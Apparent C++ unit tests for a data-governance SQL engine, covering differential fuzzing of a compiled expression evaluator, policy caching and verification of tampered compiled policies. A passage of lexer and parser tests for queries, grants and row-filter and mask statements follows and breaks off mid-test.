TEST(FusionTest, CompiledMatchesInterpreterOnPolicyShapedExprs) {
  RecordBatch batch = TestBatch();
  EvalContext ctx = FusionCtx();
  std::vector<ExprPtr> exprs = {
      BinOp(BinaryOpKind::kLt, Col("a"), LitInt(3)),               // int cmp imm
      BinOp(BinaryOpKind::kGe, Col("d"), LitDouble(0.0)),          // dbl cmp imm
      Eq(Col("s"), LitString("alpha")),                            // str eq imm
      And(BinOp(BinaryOpKind::kLt, Col("a"), LitInt(3)),
          BinOp(BinaryOpKind::kGt, Col("b"), LitInt(5))),          // 3VL AND
      Or(std::make_shared<IsNullExpr>(Col("b"), false),
         Eq(Col("a"), LitInt(1))),                                 // 3VL OR
      BinOp(BinaryOpKind::kAdd, Col("a"),
            BinOp(BinaryOpKind::kMul, Col("b"), LitInt(2))),       // int arith
      BinOp(BinaryOpKind::kDiv, Col("a"), LitInt(0)),              // /0 -> NULL
      BinOp(BinaryOpKind::kMod, Col("b"), LitInt(0)),              // %0 -> NULL
      BinOp(BinaryOpKind::kAdd, Col("s"), LitString("!")),         // str concat
      Eq(Col("a"), Col("d")),                                      // mixed cmp
      Not(Eq(Col("a"), LitInt(2))),
      std::make_shared<InExpr>(
          Col("a"), std::vector<Value>{Value::Int(1), Value::Int(3)}, false),
      std::make_shared<LikeExpr>(Col("s"), "a%", false),
      CastTo(Col("a"), TypeKind::kFloat64),
      CastTo(Col("d"), TypeKind::kString),
      std::make_shared<CaseExpr>(
          std::vector<CaseExpr::Branch>{
              {BinOp(BinaryOpKind::kGt, Col("a"), LitInt(1)), Col("b")}},
          LitInt(-1)),
      Func("UPPER", {Col("s")}),
      Func("COALESCE", {Col("b"), LitInt(0)}),
      Eq(Func("CURRENT_USER", {}), LitString("alice")),            // splat
      Func("IS_ACCOUNT_GROUP_MEMBER", {LitString("admins")}),      // splat
      FusedPolicy(BinOp(BinaryOpKind::kLt, Col("a"), LitInt(3))),  // marker
  };
  for (const ExprPtr& e : exprs) ExpectSameEvaluation(e, batch, ctx);
}

/// Random *evaluable* trees against FusionSchema (unlike RandomExprTree,
/// which targets serde and produces unresolvable names on purpose).
ExprPtr RandomEvaluable(ExprRng& rng, TypeKind want, int depth);

ExprPtr RandomEvaluableInt(ExprRng& rng, int depth) {
  if (depth <= 0 || rng.Below(3) == 0) {
    switch (rng.Below(3)) {
      case 0:
        return LitInt(static_cast<int64_t>(rng.Below(100)) - 50);
      case 1:
        return Col("a");
      default:
        return Col("b");
    }
  }
  switch (rng.Below(5)) {
    case 0:
      return BinOp(BinaryOpKind::kAdd, RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
                   RandomEvaluable(rng, TypeKind::kInt64, depth - 1));
    case 1:
      return BinOp(BinaryOpKind::kSub, RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
                   RandomEvaluable(rng, TypeKind::kInt64, depth - 1));
    case 2:
      return BinOp(BinaryOpKind::kMod, RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
                   RandomEvaluable(rng, TypeKind::kInt64, depth - 1));
    case 3:
      return Func("COALESCE", {RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
                               RandomEvaluable(rng, TypeKind::kInt64, depth - 1)});
    default:
      return std::make_shared<CaseExpr>(
          std::vector<CaseExpr::Branch>{
              {RandomEvaluable(rng, TypeKind::kBool, depth - 1),
               RandomEvaluable(rng, TypeKind::kInt64, depth - 1)}},
          RandomEvaluable(rng, TypeKind::kInt64, depth - 1));
  }
}

ExprPtr RandomEvaluableDouble(ExprRng& rng, int depth) {
  if (depth <= 0 || rng.Below(3) == 0) {
    return rng.Below(2) == 0
               ? Col("d")
               : LitDouble(static_cast<double>(rng.Below(400)) * 0.25 - 50.0);
  }
  switch (rng.Below(3)) {
    case 0:
      return BinOp(BinaryOpKind::kDiv, RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
                   RandomEvaluable(rng, TypeKind::kInt64, depth - 1));
    case 1:
      return BinOp(BinaryOpKind::kAdd, RandomEvaluableDouble(rng, depth - 1),
                   RandomEvaluable(rng, TypeKind::kInt64, depth - 1));
    default:
      return CastTo(RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
                    TypeKind::kFloat64);
  }
}

ExprPtr RandomEvaluableString(ExprRng& rng, int depth) {
  if (depth <= 0 || rng.Below(3) == 0) {
    return rng.Below(2) == 0 ? Col("s")
                             : LitString("v" + std::to_string(rng.Below(16)));
  }
  switch (rng.Below(3)) {
    case 0:
      return Func(rng.Below(2) == 0 ? "UPPER" : "LOWER",
                  {RandomEvaluableString(rng, depth - 1)});
    case 1:
      return BinOp(BinaryOpKind::kAdd, RandomEvaluableString(rng, depth - 1),
                   RandomEvaluableString(rng, depth - 1));
    default:
      return CastTo(RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
                    TypeKind::kString);
  }
}

ExprPtr RandomEvaluableBool(ExprRng& rng, int depth) {
  if (depth <= 0 || rng.Below(4) == 0) {
    return rng.Below(4) == 0 ? LitBool(rng.Below(2) == 0)
                             : Eq(Col("a"), LitInt(static_cast<int64_t>(
                                                rng.Below(4))));
  }
  switch (rng.Below(8)) {
    case 0:
      return And(RandomEvaluableBool(rng, depth - 1),
                 RandomEvaluableBool(rng, depth - 1));
    case 1:
      return Or(RandomEvaluableBool(rng, depth - 1),
                RandomEvaluableBool(rng, depth - 1));
    case 2:
      return Not(RandomEvaluableBool(rng, depth - 1));
    case 3: {
      const BinaryOpKind cmps[] = {BinaryOpKind::kEq, BinaryOpKind::kNe,
                                   BinaryOpKind::kLt, BinaryOpKind::kLe,
                                   BinaryOpKind::kGt, BinaryOpKind::kGe};
      const BinaryOpKind op = cmps[rng.Below(6)];
      switch (rng.Below(3)) {
        case 0:
          return BinOp(op, RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
                       RandomEvaluable(rng, TypeKind::kInt64, depth - 1));
        case 1:
          return BinOp(op, RandomEvaluableDouble(rng, depth - 1),
                       RandomEvaluableDouble(rng, depth - 1));
        default:
          // Mixed int/double comparison exercises the generic kernel.
          return BinOp(op, RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
                       RandomEvaluableDouble(rng, depth - 1));
      }
    }
    case 4:
      return std::make_shared<IsNullExpr>(
          RandomEvaluable(rng,
                          rng.Below(2) == 0 ? TypeKind::kInt64
                                            : TypeKind::kString,
                          depth - 1),
          rng.Below(2) == 0);
    case 5:
      return std::make_shared<InExpr>(
          RandomEvaluable(rng, TypeKind::kInt64, depth - 1),
          std::vector<Value>{Value::Int(static_cast<int64_t>(rng.Below(5))),
                             Value::Null(),
                             Value::Int(static_cast<int64_t>(rng.Below(40)))},
          rng.Below(2) == 0);
    case 6:
      return std::make_shared<LikeExpr>(RandomEvaluableString(rng, depth - 1),
                                        rng.Below(2) == 0 ? "a%" : "%a_",
                                        rng.Below(2) == 0);
    default:
      return Eq(Func("CURRENT_USER", {}),
                LitString(rng.Below(2) == 0 ? "alice" : "bob"));
  }
}

ExprPtr RandomEvaluable(ExprRng& rng, TypeKind want, int depth) {
  switch (want) {
    case TypeKind::kInt64:
      return RandomEvaluableInt(rng, depth);
    case TypeKind::kFloat64:
      return RandomEvaluableDouble(rng, depth);
    case TypeKind::kString:
      return RandomEvaluableString(rng, depth);
    default:
      return RandomEvaluableBool(rng, depth);
  }
}

class FusionFuzzTest : public ::testing::TestWithParam<int> {};

TEST_P(FusionFuzzTest, DifferentialInterpreterVsCompiled) {
  ExprRng rng(0xF500 + GetParam());
  RecordBatch batch = TestBatch();
  EvalContext ctx = FusionCtx();
  const TypeKind types[] = {TypeKind::kBool, TypeKind::kInt64,
                            TypeKind::kFloat64, TypeKind::kString};
  for (int i = 0; i < 150; ++i) {
    ExprPtr e = RandomEvaluable(rng, types[rng.Below(4)], 4);
    ExpectSameEvaluation(e, batch, ctx);
  }
}

TEST_P(FusionFuzzTest, DifferentialPredicateMaskNullSemantics) {
  ExprRng rng(0xF600 + GetParam());
  RecordBatch batch = TestBatch();
  EvalContext ctx = FusionCtx();
  for (int i = 0; i < 100; ++i) {
    ExprPtr pred = RandomEvaluableBool(rng, 4);
    auto interpreted = EvaluatePredicateMask(pred, batch, ctx);
    auto program = CompileExpr(pred, batch.schema());
    ASSERT_TRUE(program.ok()) << pred->ToString();
    auto compiled = RunProgramMask(*program, batch, ctx);
    ASSERT_EQ(interpreted.ok(), compiled.ok()) << pred->ToString();
    if (!interpreted.ok()) continue;
    EXPECT_EQ(*interpreted, *compiled)
        << pred->ToString() << ": NULL/false rows must be excluded "
        << "identically by both paths";
  }
}

TEST_P(FusionFuzzTest, DecompileRoundTripsAndRecompilesIdentically) {
  ExprRng rng(0xF700 + GetParam());
  const Schema schema = FusionSchema();
  const TypeKind types[] = {TypeKind::kBool, TypeKind::kInt64,
                            TypeKind::kFloat64, TypeKind::kString};
  for (int i = 0; i < 100; ++i) {
    ExprPtr e = RandomEvaluable(rng, types[rng.Below(4)], 4);
    auto program = CompileExpr(e, schema);
    ASSERT_TRUE(program.ok()) << e->ToString();
    auto back = DecompileProgram(*program);
    ASSERT_TRUE(back.ok()) << e->ToString();
    EXPECT_TRUE((*back)->Equals(*e))
        << "decompiled " << (*back)->ToString() << " from " << e->ToString();
    auto again = CompileExpr(*back, schema);
    ASSERT_TRUE(again.ok());
    EXPECT_TRUE(SameInstructionStream(*program, *again))
        << "recompilation of the decompiled tree deviates for "
        << e->ToString();
  }
}

TEST_P(FusionFuzzTest, FusedPolicyMarkerSerdeRoundTrips) {
  ExprRng rng(0xF800 + GetParam());
  for (int i = 0; i < 60; ++i) {
    // Markers can wrap any subtree the analyzer injects; serde must carry
    // them through exactly (same property as the plain serde fuzz above).
    ExprPtr inner = RandomExprTree(rng, 3);
    ExprPtr original =
        rng.Below(2) == 0 ? FusedPolicy(inner)
                          : And(FusedPolicy(inner), FusedPolicy(LitBool(true)));
    ByteWriter w;
    SerializeExpr(original, &w);
    ByteReader r(w.data());
    auto back = DeserializeExpr(&r);
    ASSERT_TRUE(back.ok()) << back.status();
    ASSERT_TRUE(r.AtEnd());
    EXPECT_TRUE((*back)->Equals(*original)) << original->ToString();
    EXPECT_EQ((*back)->kind(), original->kind());
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, FusionFuzzTest, ::testing::Range(0, 4));

TEST(FusionTest, MarkerIsTransparentToEvaluationAndStrips) {
  RecordBatch batch = TestBatch();
  EvalContext ctx = FusionCtx();
  ExprPtr bare = BinOp(BinaryOpKind::kLt, Col("a"), LitInt(3));
  ExprPtr marked = FusedPolicy(bare);
  EXPECT_EQ(marked->ToString(), "POLICY[" + bare->ToString() + "]");
  EXPECT_FALSE(marked->Equals(*bare));  // structural equality sees the marker
  EXPECT_TRUE(StripFusedPolicyMarkers(marked)->Equals(*bare));
  // Identity (same node) when nothing to strip.
  EXPECT_EQ(StripFusedPolicyMarkers(bare).get(), bare.get());
  auto a = EvaluateExpr(bare, batch, ctx);
  auto b = EvaluateExpr(marked, batch, ctx);
  ASSERT_TRUE(a.ok() && b.ok());
  for (size_t i = 0; i < a->length(); ++i) {
    EXPECT_TRUE(a->GetValue(i) == b->GetValue(i));
  }
  auto ta = InferExprType(bare, batch.schema());
  auto tb = InferExprType(marked, batch.schema());
  ASSERT_TRUE(ta.ok() && tb.ok());
  EXPECT_EQ(*ta, *tb);
}

TEST(FusionTest, CompilerRefusesUdfCallsAndAggregates) {
  const Schema schema = FusionSchema();
  ExprPtr udf = Udf("f", "mallory", TypeKind::kInt64, {Col("a")});
  EXPECT_FALSE(CompileExpr(udf, schema).ok());
  EXPECT_FALSE(CompileExpr(Func("SUM", {Col("a")}), schema).ok());
  EXPECT_FALSE(CompileExpr(Col("nope"), schema).ok());  // unresolvable
}

TEST(FusionTest, RunFusedPolicyOrdersFilterMaskUserPredicate) {
  const Schema schema = FusionSchema();
  RecordBatch batch = TestBatch();  // a: 1,2,3  b: 10,NULL,30
  // Row filter sees RAW values; the user predicate sees MASKED values.
  ExprPtr row_filter = BinOp(BinaryOpKind::kGt, Col("a"), LitInt(1));
  std::vector<ExprPtr> masks(schema.num_fields());
  masks[1] = LitInt(-1);  // mask column b entirely
  auto program =
      CompileFusedPolicy("t", "alice", 7, schema, row_filter, masks);
  ASSERT_TRUE(program.ok()) << program.status();
  EXPECT_EQ(program->output_schema.field(1).type, TypeKind::kInt64);

  // User predicate b = -1 matches every masked row but no raw row.
  auto user = CompileExpr(Eq(Col("b"), LitInt(-1)), program->output_schema);
  ASSERT_TRUE(user.ok());
  auto out = RunFusedPolicy(*program, &*user, batch, FusionCtx());
  ASSERT_TRUE(out.ok()) << out.status();
  ASSERT_TRUE(out->has_value());
  EXPECT_EQ((*out)->num_rows(), 2u);  // rows a=2, a=3 survive the row filter
  for (size_t i = 0; i < (*out)->num_rows(); ++i) {
    EXPECT_EQ((*out)->column(1).GetValue(i), Value::Int(-1));
  }

  // A user predicate matching raw b values must see nothing (mask first).
  auto raw_probe = CompileExpr(Eq(Col("b"), LitInt(30)),
                               program->output_schema);
  ASSERT_TRUE(raw_probe.ok());
  auto none = RunFusedPolicy(*program, &*raw_probe, batch, FusionCtx());
  ASSERT_TRUE(none.ok());
  EXPECT_FALSE(none->has_value());
}

TEST(FusionTest, PolicyEvalCacheHitRevalidateInvalidate) {
  PolicyEvalCache cache;
  const Schema schema = FusionSchema();
  ExprPtr policy_v1 = BinOp(BinaryOpKind::kGt, Col("a"), LitInt(0));
  ExprPtr policy_v2 = BinOp(BinaryOpKind::kGt, Col("a"), LitInt(0));
  int stamp_calls = 0;
  int compile_calls = 0;
  ExprPtr current_policy = policy_v1;
  uint64_t stamp_epoch = 1;
  auto stamp_fn = [&]() -> Result<PolicyVersionStamp> {
    ++stamp_calls;
    PolicyVersionStamp s;
    s.epoch = stamp_epoch;
    s.found = true;
    s.policies = {current_policy};
    return s;
  };
  auto compile_fn = [&]() -> Result<FusedPolicyProgram> {
    ++compile_calls;
    return CompileFusedPolicy("t", "alice", stamp_epoch, schema,
                              current_policy,
                              std::vector<ExprPtr>(schema.num_fields()));
  };

  // Miss -> compile.
  auto first = cache.GetOrCompile("t", "alice", "v", 1, stamp_fn, compile_fn);
  ASSERT_TRUE(first.ok());
  EXPECT_FALSE(first->hit);
  EXPECT_TRUE(first->compiled);
  EXPECT_EQ(compile_calls, 1);

  // Same epoch -> pure hit, no catalog work.
  const int stamps_before = stamp_calls;
  auto second = cache.GetOrCompile("t", "alice", "v", 1, stamp_fn, compile_fn);
  ASSERT_TRUE(second.ok());
  EXPECT_TRUE(second->hit);
  EXPECT_FALSE(second->compiled);
  EXPECT_EQ(stamp_calls, stamps_before);
  EXPECT_EQ(second->program.get(), first->program.get());

  // Epoch drift, same policy pointers -> revalidation, still no compile.
  stamp_epoch = 2;
  auto third = cache.GetOrCompile("t", "alice", "v", 2, stamp_fn, compile_fn);
  ASSERT_TRUE(third.ok());
  EXPECT_TRUE(third->hit);
  EXPECT_FALSE(third->compiled);
  EXPECT_EQ(compile_calls, 1);

  // Epoch drift with replaced policy (same text, fresh allocation) ->
  // invalidation + recompile. This is the stale-compiled-policy defense.
  current_policy = policy_v2;
  stamp_epoch = 3;
  auto fourth = cache.GetOrCompile("t", "alice", "v", 3, stamp_fn, compile_fn);
  ASSERT_TRUE(fourth.ok());
  EXPECT_FALSE(fourth->hit);
  EXPECT_TRUE(fourth->compiled);
  EXPECT_EQ(compile_calls, 2);
  EXPECT_NE(fourth->program.get(), first->program.get());

  // Distinct principals get distinct entries.
  auto bob = cache.GetOrCompile("t", "bob", "v", 3, stamp_fn, compile_fn);
  ASSERT_TRUE(bob.ok());
  EXPECT_FALSE(bob->hit);

  PolicyEvalCache::Stats stats = cache.stats();
  EXPECT_EQ(stats.hits, 1u);
  EXPECT_EQ(stats.revalidations, 1u);
  EXPECT_EQ(stats.misses, 2u);  // first lookup + bob
  EXPECT_EQ(stats.invalidations, 1u);
  EXPECT_EQ(stats.compiles, 3u);
  EXPECT_EQ(cache.size(), 2u);
  cache.Clear();
  EXPECT_EQ(cache.size(), 0u);
}

TEST(FusionTest, PV007RejectsMutatedFusedProgram) {
  const Schema schema = FusionSchema();
  ExprPtr policy = And(BinOp(BinaryOpKind::kLt, Col("a"), LitInt(3)),
                       BinOp(BinaryOpKind::kGt, Col("b"), LitInt(5)));
  auto program = CompileExpr(FusedPolicy(policy), schema);
  ASSERT_TRUE(program.ok());

  // Pristine program verifies (markers on the expected side are stripped).
  EXPECT_TRUE(
      PlanVerifier::VerifyFusedProgram(*program, FusedPolicy(policy)).ok());
  EXPECT_TRUE(PlanVerifier::VerifyFusedProgram(*program, policy).ok());

  // Mutation 1: weaken a comparison immediate (3 -> 300). The decompiled
  // tree is no longer the cataloged policy.
  CompiledExpr weakened = *program;
  bool mutated = false;
  for (FusedInstruction& inst : weakened.instrs) {
    if (inst.op == FusedOpCode::kBinary && inst.b == kNoReg &&
        inst.literal == Value::Int(3)) {
      inst.literal = Value::Int(300);
      mutated = true;
    }
  }
  ASSERT_TRUE(mutated);
  Status s1 = PlanVerifier::VerifyFusedProgram(weakened, policy);
  EXPECT_FALSE(s1.ok());
  EXPECT_NE(s1.message().find("PV007"), std::string::npos) << s1;

  // Mutation 2: flip a result type only. Tree equivalence cannot see this;
  // the canonical-recompilation check must.
  CompiledExpr retyped = *program;
  retyped.instrs.front().out_type = TypeKind::kString;
  Status s2 = PlanVerifier::VerifyFusedProgram(retyped, policy);
  EXPECT_FALSE(s2.ok());
  EXPECT_NE(s2.message().find("PV007"), std::string::npos) << s2;

  // Mutation 3: reroute the result register to a subexpression.
  CompiledExpr rerouted = *program;
  ASSERT_GT(rerouted.result_reg, 0);
  rerouted.result_reg = 0;
  Status s3 = PlanVerifier::VerifyFusedProgram(rerouted, policy);
  EXPECT_FALSE(s3.ok());
  EXPECT_NE(s3.message().find("PV007"), std::string::npos) << s3;

  // Mutation 4: structural corruption — an operand register pointing past
  // the register file. The structural pass rejects this before any
  // decompilation is attempted (a corrupt stream must never be walked).
  CompiledExpr corrupted = *program;
  bool broke = false;
  for (FusedInstruction& inst : corrupted.instrs) {
    if (inst.op == FusedOpCode::kBinary && inst.b != kNoReg) {
      inst.a = static_cast<uint16_t>(corrupted.num_regs + 7);
      broke = true;
      break;
    }
  }
  ASSERT_TRUE(broke);
  Status s5 = PlanVerifier::VerifyFusedProgram(corrupted, policy);
  EXPECT_FALSE(s5.ok());
  EXPECT_NE(s5.message().find("structural verification"), std::string::npos)
      << s5;
  EXPECT_NE(s5.message().find("out of range"), std::string::npos) << s5;

  // Wrong expected tree: a program for another policy must not verify.
  Status s4 = PlanVerifier::VerifyFusedProgram(
      *program, BinOp(BinaryOpKind::kLt, Col("a"), LitInt(4)));
  EXPECT_FALSE(s4.ok());
  EXPECT_NE(s4.message().find("PV007"), std::string::npos) << s4;
}

}  // namespace
}  // namespace lakeguard
