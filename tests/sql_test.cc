// Tests for src/sql: lexer and parser, covering queries, DDL, DML, grants
// and policy statements.

#include <gtest/gtest.h>

#include "sql/lexer.h"
#include "sql/parser.h"

namespace lakeguard {
namespace {

// ---- Lexer -----------------------------------------------------------------------

TEST(LexerTest, TokenKinds) {
  auto tokens = LexSql("SELECT a, 'str''x' FROM t WHERE x >= 1.5 -- note");
  ASSERT_TRUE(tokens.ok());
  const auto& ts = *tokens;
  EXPECT_TRUE(ts[0].IsKeyword("SELECT"));
  EXPECT_EQ(ts[1].kind, TokenKind::kIdentifier);
  EXPECT_TRUE(ts[2].IsSymbol(","));
  EXPECT_EQ(ts[3].kind, TokenKind::kString);
  EXPECT_EQ(ts[3].text, "str'x");  // escaped quote
  EXPECT_TRUE(ts[4].IsKeyword("FROM"));
  EXPECT_TRUE(ts[8].IsSymbol(">="));
  EXPECT_EQ(ts[9].kind, TokenKind::kFloat);
  EXPECT_EQ(ts.back().kind, TokenKind::kEnd);
}

TEST(LexerTest, QuotedIdentifiers) {
  auto tokens = LexSql("SELECT `weird name` FROM `t`");
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ((*tokens)[1].kind, TokenKind::kIdentifier);
  EXPECT_EQ((*tokens)[1].text, "weird name");
}

TEST(LexerTest, Errors) {
  EXPECT_FALSE(LexSql("SELECT 'unterminated").ok());
  EXPECT_FALSE(LexSql("SELECT #x").ok());
}

TEST(LexerTest, KeywordsCaseInsensitive) {
  auto tokens = LexSql("select From wHeRe");
  ASSERT_TRUE(tokens.ok());
  EXPECT_TRUE((*tokens)[0].IsKeyword("SELECT"));
  EXPECT_TRUE((*tokens)[1].IsKeyword("FROM"));
  EXPECT_TRUE((*tokens)[2].IsKeyword("WHERE"));
}

// ---- Parser: SELECT ----------------------------------------------------------------

Result<PlanPtr> ParsePlan(const std::string& sql) {
  auto stmt = ParseSql(sql);
  if (!stmt.ok()) return stmt.status();
  auto* select = std::get_if<SelectStatement>(&*stmt);
  if (select == nullptr) return Status::Internal("not a select");
  return select->plan;
}

TEST(ParserTest, SelectStarIsBareRelation) {
  auto plan = ParsePlan("SELECT * FROM main.t");
  ASSERT_TRUE(plan.ok());
  EXPECT_EQ((*plan)->kind(), PlanKind::kTableRef);
}

TEST(ParserTest, ProjectFilterShape) {
  auto plan = ParsePlan("SELECT a, b + 1 AS b1 FROM t WHERE a < 10");
  ASSERT_TRUE(plan.ok());
  ASSERT_EQ((*plan)->kind(), PlanKind::kProject);
  const auto& project = static_cast<const ProjectNode&>(**plan);
  EXPECT_EQ(project.names()[0], "a");
  EXPECT_EQ(project.names()[1], "b1");
  EXPECT_EQ(project.child()->kind(), PlanKind::kFilter);
}

TEST(ParserTest, BareAliasWithoutAs) {
  auto plan = ParsePlan("SELECT a + 1 total FROM t");
  ASSERT_TRUE(plan.ok());
  const auto& project = static_cast<const ProjectNode&>(**plan);
  EXPECT_EQ(project.names()[0], "total");
}

TEST(ParserTest, GroupByAggregateShape) {
  auto plan = ParsePlan(
      "SELECT region, SUM(amount) AS total, COUNT(*) AS n "
      "FROM sales GROUP BY region HAVING SUM(amount) > 10 "
      "ORDER BY total DESC LIMIT 5");
  ASSERT_TRUE(plan.ok()) << plan.status();
  // Limit(Sort(Project(Filter(Aggregate(...)))))
  ASSERT_EQ((*plan)->kind(), PlanKind::kLimit);
  const auto& limit = static_cast<const LimitNode&>(**plan);
  EXPECT_EQ(limit.limit(), 5);
  ASSERT_EQ(limit.child()->kind(), PlanKind::kSort);
  const auto& sort = static_cast<const SortNode&>(*limit.child());
  EXPECT_FALSE(sort.keys()[0].ascending);
  ASSERT_EQ(sort.child()->kind(), PlanKind::kProject);
  const auto& project = static_cast<const ProjectNode&>(*sort.child());
  ASSERT_EQ(project.child()->kind(), PlanKind::kFilter);  // HAVING
  EXPECT_EQ(project.child()->children()[0]->kind(), PlanKind::kAggregate);
}

TEST(ParserTest, GlobalAggregateWithoutGroupBy) {
  auto plan = ParsePlan("SELECT COUNT(*) AS n, AVG(x) AS m FROM t");
  ASSERT_TRUE(plan.ok());
  const auto& project = static_cast<const ProjectNode&>(**plan);
  ASSERT_EQ(project.child()->kind(), PlanKind::kAggregate);
  const auto& agg = static_cast<const AggregateNode&>(*project.child());
  EXPECT_TRUE(agg.group_exprs().empty());
  EXPECT_EQ(agg.agg_exprs().size(), 2u);
}

TEST(ParserTest, NonAggSelectItemMustBeGrouped) {
  EXPECT_FALSE(ParsePlan("SELECT a, SUM(b) FROM t GROUP BY c").ok());
}

TEST(ParserTest, Joins) {
  auto plan = ParsePlan(
      "SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c ON b.id = c.id");
  ASSERT_TRUE(plan.ok());
  ASSERT_EQ((*plan)->kind(), PlanKind::kJoin);
  const auto& outer = static_cast<const JoinNode&>(**plan);
  EXPECT_EQ(outer.join_type(), JoinType::kLeft);
  EXPECT_EQ(outer.left()->kind(), PlanKind::kJoin);
  auto cross = ParsePlan("SELECT * FROM a CROSS JOIN b");
  ASSERT_TRUE(cross.ok());
  EXPECT_EQ(static_cast<const JoinNode&>(**cross).join_type(),
            JoinType::kCross);
}

TEST(ParserTest, Subquery) {
  auto plan = ParsePlan(
      "SELECT x FROM (SELECT a AS x FROM t WHERE a > 0) AS sub");
  ASSERT_TRUE(plan.ok());
  EXPECT_EQ((*plan)->kind(), PlanKind::kProject);
}

TEST(ParserTest, ExpressionPrecedence) {
  auto plan = ParsePlan("SELECT a + b * 2 AS v FROM t");
  ASSERT_TRUE(plan.ok());
  const auto& project = static_cast<const ProjectNode&>(**plan);
  EXPECT_EQ(project.exprs()[0]->ToString(), "(a + (b * 2))");
  auto logic = ParsePlan("SELECT * FROM t WHERE a = 1 OR b = 2 AND c = 3");
  ASSERT_TRUE(logic.ok());
  const auto& filter = static_cast<const FilterNode&>(**logic);
  EXPECT_EQ(filter.condition()->ToString(),
            "((a = 1) OR ((b = 2) AND (c = 3)))");
}

TEST(ParserTest, BetweenInLikeIsNull) {
  auto plan = ParsePlan(
      "SELECT * FROM t WHERE a BETWEEN 1 AND 5 AND r IN ('US','EU') "
      "AND s LIKE 'a%' AND b IS NOT NULL AND c NOT IN (3)");
  ASSERT_TRUE(plan.ok()) << plan.status();
  EXPECT_EQ((*plan)->kind(), PlanKind::kFilter);
}

TEST(ParserTest, CaseCastFunctions) {
  auto plan = ParsePlan(
      "SELECT CASE WHEN a > 0 THEN 'pos' ELSE 'neg' END AS sign, "
      "CAST(a AS DOUBLE) AS d, UPPER(s) AS u, COUNT(*) AS n "
      "FROM t GROUP BY CASE WHEN a > 0 THEN 'pos' ELSE 'neg' END, "
      "CAST(a AS DOUBLE), UPPER(s)");
  ASSERT_TRUE(plan.ok()) << plan.status();
}

TEST(ParserTest, QualifiedNamesAndUdfCalls) {
  auto plan = ParsePlan(
      "SELECT main.clinical.extract_feature(sensor) AS f FROM v");
  ASSERT_TRUE(plan.ok());
  const auto& project = static_cast<const ProjectNode&>(**plan);
  ASSERT_EQ(project.exprs()[0]->kind(), ExprKind::kFunctionCall);
  EXPECT_EQ(
      static_cast<const FunctionCallExpr&>(*project.exprs()[0]).name(),
      "main.clinical.extract_feature");
}

TEST(ParserTest, NegativeNumbersAndUnaryMinus) {
  auto plan = ParsePlan("SELECT -a AS na, -3 AS m FROM t WHERE a > -2.5");
  ASSERT_TRUE(plan.ok()) << plan.status();
}

// ---- Parser: commands -----------------------------------------------------------------

TEST(ParserTest, CreateTable) {
  auto stmt = ParseSql(
      "CREATE TABLE main.s.t (a BIGINT NOT NULL, b STRING, c DOUBLE, "
      "d BOOLEAN, e BINARY)");
  ASSERT_TRUE(stmt.ok()) << stmt.status();
  const auto& create = std::get<CreateTableStatement>(*stmt);
  EXPECT_EQ(create.name, "main.s.t");
  ASSERT_EQ(create.schema.num_fields(), 5u);
  EXPECT_FALSE(create.schema.field(0).nullable);
  EXPECT_EQ(create.schema.field(4).type, TypeKind::kBinary);
}

TEST(ParserTest, CreateViewKeepsSqlText) {
  auto stmt = ParseSql(
      "CREATE VIEW main.s.v AS SELECT a FROM main.s.t WHERE a > 1");
  ASSERT_TRUE(stmt.ok());
  const auto& view = std::get<CreateViewStatement>(*stmt);
  EXPECT_EQ(view.name, "main.s.v");
  EXPECT_FALSE(view.materialized);
  EXPECT_EQ(view.sql_text, "SELECT a FROM main.s.t WHERE a > 1");
  ASSERT_TRUE(view.plan != nullptr);
}

TEST(ParserTest, CreateMaterializedView) {
  auto stmt = ParseSql("CREATE MATERIALIZED VIEW m.s.v AS SELECT a FROM t");
  ASSERT_TRUE(stmt.ok());
  EXPECT_TRUE(std::get<CreateViewStatement>(*stmt).materialized);
}

TEST(ParserTest, InsertValues) {
  auto stmt = ParseSql(
      "INSERT INTO t VALUES (1, 'a', 2.5, TRUE, NULL), (-2, 'b', 0.0, "
      "FALSE, 'x')");
  ASSERT_TRUE(stmt.ok()) << stmt.status();
  const auto& insert = std::get<InsertStatement>(*stmt);
  ASSERT_EQ(insert.rows.size(), 2u);
  EXPECT_EQ(insert.rows[0][0].int_value(), 1);
  EXPECT_TRUE(insert.rows[0][4].is_null());
  EXPECT_EQ(insert.rows[1][0].int_value(), -2);
}

TEST(ParserTest, GrantRevoke) {
  auto grant = ParseSql("GRANT SELECT ON TABLE main.s.t TO alice");
  ASSERT_TRUE(grant.ok());
  const auto& g = std::get<GrantStatement>(*grant);
  EXPECT_FALSE(g.revoke);
  EXPECT_EQ(g.privilege, "SELECT");
  EXPECT_EQ(g.securable, "main.s.t");
  EXPECT_EQ(g.principal, "alice");

  auto use_cat = ParseSql("GRANT USE CATALOG ON main TO data_scientists");
  ASSERT_TRUE(use_cat.ok());
  EXPECT_EQ(std::get<GrantStatement>(*use_cat).privilege, "USE CATALOG");

  auto revoke = ParseSql("REVOKE SELECT ON main.s.t FROM alice");
  ASSERT_TRUE(revoke.ok());
  EXPECT_TRUE(std::get<GrantStatement>(*revoke).revoke);
}

TEST(ParserTest, PolicyDdl) {
  auto rf = ParseSql(
      "ALTER TABLE t SET ROW FILTER (region = 'US' OR "
      "IS_ACCOUNT_GROUP_MEMBER('g'))");
  ASSERT_TRUE(rf.ok()) << rf.status();
  const auto& policy = std::get<AlterPolicyStatement>(*rf);
  EXPECT_EQ(policy.action, AlterPolicyStatement::Action::kSetRowFilter);
  ASSERT_TRUE(policy.expr != nullptr);

  auto drop_rf = ParseSql("ALTER TABLE t DROP ROW FILTER");
  ASSERT_TRUE(drop_rf.ok());
  EXPECT_EQ(std::get<AlterPolicyStatement>(*drop_rf).action,
            AlterPolicyStatement::Action::kDropRowFilter);

  auto mask = ParseSql("ALTER TABLE t ALTER COLUMN ssn SET MASK (MASK(ssn))");
  ASSERT_TRUE(mask.ok()) << mask.status();
  const auto& m = std::get<AlterPolicyStatement>(*mask);
